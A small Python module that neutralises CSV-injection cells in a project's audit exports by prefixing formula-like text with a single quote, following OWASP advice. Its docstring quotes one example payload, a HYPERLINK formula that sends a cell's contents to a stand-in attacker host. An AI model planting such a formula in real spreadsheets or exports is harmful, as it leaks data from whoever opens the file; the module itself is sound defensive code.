"""Cells that spreadsheets will not run as formulas (CSV injection). Pure.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (and tab or carriage return can smuggle one in). Attest's CSV exports carry text
people typed (token names, incident titles, threshold names...), so an auditor opening an export
could run ``=HYPERLINK("https://evil.example/?"&A1)``. OWASP's recommendation: prefix such cells
with a single quote, which the spreadsheet shows as text. The JSON Lines export stays exact
(it is re-verified against the hash chain); only CSV, which is for people, is neutralised.
"""

from __future__ import annotations

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_row(values: list[Any]) -> list[Any]:
    return [neutralise(value) for value in values]
